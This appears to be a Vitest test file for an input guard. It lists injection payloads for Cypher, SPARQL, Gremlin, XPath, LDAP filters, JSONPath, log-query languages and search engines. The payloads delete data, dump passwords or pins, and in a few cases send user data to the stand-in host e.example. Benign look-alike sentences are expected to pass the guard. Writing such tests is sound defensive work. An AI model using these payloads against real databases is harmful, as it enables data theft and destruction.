// Injected clauses of the languages that documents, graphs and trees are asked by: refused where a value ends the
// origin's own string or bracket, behind a sentence, too, and told by what the words mean, not by their spelling.

import { describe, expect, test } from 'vitest'

import { refusing } from '../corpora/guard.ts'

const isRefused = refusing()

const PLACES = ['query', 'json', 'form', 'multipart']
const SENTENCE = 'Please call me when the parcel is at the door; the bell is broken and my name is '

const BEHIND_TEXT: Readonly<Record<string, readonly string[]>> = {
  'JavaScript of a condition (CWE-943)': [
    "x' || this.role == 'admin",
    "x' && !Object.keys(this).length || 'a'=='b",
    `x" || Reflect.ownKeys(this)[0] == "a`,
    "x'; return 'a'=='a'; //",
    "x'; return /^a/.test(this.name); var y='",
    "x'| !0 //",
    "x'; if (this.pin > 1) { sleep(900) } var y='",
  ],
  'JSONPath (CWE-943)': ["x' || @.role == '", "x')]|$..*|$[?(@.a=='"],
  'Cypher (CWE-943)': [
    "x'}) MATCH (n:User) RETURN n.password //",
    "x' OR 1=1 DETACH DELETE n //",
    "x'}) CALL { MATCH (m) RETURN m } RETURN m //",
    "x' UNION MATCH (m) RETURN m.secret as name //",
    "x'})-[:KNOWS]->(m) RETURN m //",
    "x' LOAD CSV FROM 'http://e.example/' AS l RETURN l //",
    "x'}) SET n:Admin RETURN n //",
    "x'}) FOREACH (i IN [1] | CREATE (:A)) //",
  ],
  'SPARQL (CWE-943)': [
    'x"} UNION {?a ?b ?c} #',
    'x" . ?who :pin ?pin } #',
    "x' ; ?b ?c . FILTER(?c > 1) } #",
    "x' } DELETE WHERE { ?a ?b ?c } #",
    'x"} SERVICE <http://e.example/> {?a ?b ?c} } #',
    "x' . BIND(1 AS ?x) } #",
  ],
  'Gremlin (CWE-943)': [
    "x').drop().iterate()",
    'x").valueMap("pin").toList()//',
    "7').outE().drop(); g.V('7",
  ],
  'Kusto, Splunk, Flux, LogQL (CWE-943)': [
    'x" | union Secrets | where "a"=="a',
    "x' | project Pin //",
    'x") |> drop(columns: ["a"]) //',
    'x"} | line_format "{{.pin}}" #',
    'x" | rest /services/users | table *, "',
    "x'; .drop table Orders //",
  ],
  'PromQL (CWE-943)': ['x"} or {__name__=~".*"} #', 'x"} unless vector(0) #'],
  'GraphQL (CWE-943)': ['x"){id}} mutation{removeUser(id:7){id}} #', 'x") { pin } } #'],
  'AQL, InfluxQL, SurrealQL (CWE-943)': [
    "x' FILTER 1==1 RETURN d.pin //",
    "x' INSERT {role:'a'} INTO users //",
    "x' FOR u IN users REMOVE u IN users //",
    'x"; DROP SERIES FROM cpu; --',
    "x'; DEFINE USER me ON ROOT; --",
  ],
  'documents (CWE-943)': ["x'}, {$set: {role: 'a'}}) //"],
  'XPath (CWE-643)': [
    "x'] | //user/*[contains(*,'",
    "x')]/parent::*/child::node()|/a[b=('",
    'x"]/following-sibling::*',
    "x' and not(../password) or 'a'='b",
    "x' or ancestor::node() or 'a'='b",
  ],
}

describe.each(Object.entries(BEHIND_TEXT))(
  'refused by itself and behind a sentence: %s',
  (_class, attacks) => {
    test.each(attacks)('%j', (attack) => {
      for (const text of [attack, `${SENTENCE}${attack}`])
        expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
    })
  },
)

const WHOLE: Readonly<Record<string, readonly string[]>> = {
  'JavaScript of a condition (CWE-943)': [
    '7 && this.pin > 1',
    'emit(this._id, this)',
    'function(a, b) { return this.role == a }',
    "});return /^a/.test(this.name);'",
    'a db; db.orders.deleteMany({})',
  ],
  'Cypher (CWE-943)': [
    'x} remove n.email return n //',
    'n} OR 1=1 SHOW USERS //',
    "x' xor n.mail ends with 'e",
    'call gds.graph.list() yield graphName',
  ],
  'CQL (CWE-943)': [
    "x' and role > '' ALLOW  FILTERING",
    "x'); alter keyspace a with durable_writes = false; --",
  ],
  'XPath (CWE-643)': [
    '257] or ends-with(name,"a")',
    "2710 or id('a')",
    '12]|//user',
    '*[1]/*[2]/text()',
    "x'(: or",
    'for $x in collection() return $x',
    "some $u in //user satisfies $u/pin = '1'",
    "doc(concat('http://e.example/', //user[1]))",
    'sum(//price)',
    '/*/ancestor::*',
  ],
  'filters of directories (RFC 4515)': [
    '|(cn=a*)',
    '\\2a\\29\\28\\7c',
    'x\\29\\29\\00',
    'cn:dn:=x',
    'mail:caseExactMatch:=x',
    'pin:2.5.13.18:=x',
    '(&(cn=a)(userPassword=*))',
  ],
  'conditions of search engines (CWE-943)': [
    `x"}}]}},"query":{"match_all":{}}`,
    `x"} , { "query_string" : {"query":"*"}}`,
    'x") OR (_exists_:pin AND "y',
    'x" AND user.2fa:* OR "y',
    'x" OR role:admin -"',
    'x) OR (*:*',
    'x*) AND (pin:[* TO *]',
  ],
  'whole graphs (CWE-943)': ['g.V().drop().iterate()'],
}

describe.each(Object.entries(WHOLE))('refused as a value: %s', (_class, attacks) => {
  test.each(attacks)('%j', (attack) => {
    expect(PLACES.filter((place) => !isRefused(place, attack))).toEqual([])
  })
})

test.each([
  "The users' return rate was 5, and the customers' match (2) went well",
  "My parents' call, with Ann as host, set the record straight",
  'return (the lamp) to the shop; call me',
  'please remove example.com from the list, and create (or merge) the two accounts',
  'Show users how to load CSV files // see below',
  `const label = "a" + name + "|" + other + ">";\n  return label // done`,
  "if (this.ready) { this.start('now') }",
  'const kind: "a" | "b" = "a"; // one of them',
  'MATCH of the day: a (draw) and a return leg',
  'parent::__construct($name); self::count($items)',
  'string(/* the text */ value) + count(/* of them */ 3)',
  "they don't] mind | see (the list)",
  "email LIKE '%@example.com' AND CONTAINS(list_ids, 'ab')",
  "5 or more (see id('a') below), 2 and name(s)",
  "['name(' => 'a'] or text('b' => 1)",
  'cn:dn and mail: see (the) list := later',
  'the keyspace was dropped and created again',
  'drawn from uniform "2 4 / F" where F is the fan-in, but I am guessing',
  'a string in the format "txid:vout" where txid is a 64-character string',
  'if you know it, do this" where "this" is either: (a)',
  '24" | count: 12 # in stock',
  `The Joneses' | Top 10 "homes" // news`,
  "Levi's W32\" | limit 2 of the seller's best",
  "the class' | project in Python -- later",
  `$('li').not(':first').has('a')`,
  "foo').has('a')",
  "what's ?a ?b ?c",
  '(a) OR (b: nothing) and :) OR maybe not',
  '"parcel box" OR status:open',
  'title:(a OR b) AND status:open',
  "O'Neil (the elder) { born 1950 }",
  "sizes 10', 12', {price: 5}",
  "the dogs' filter name = x; define user stories next",
])('passes: %j', (text) => {
  expect(PLACES.filter((place) => isRefused(place, text))).toEqual([])
})
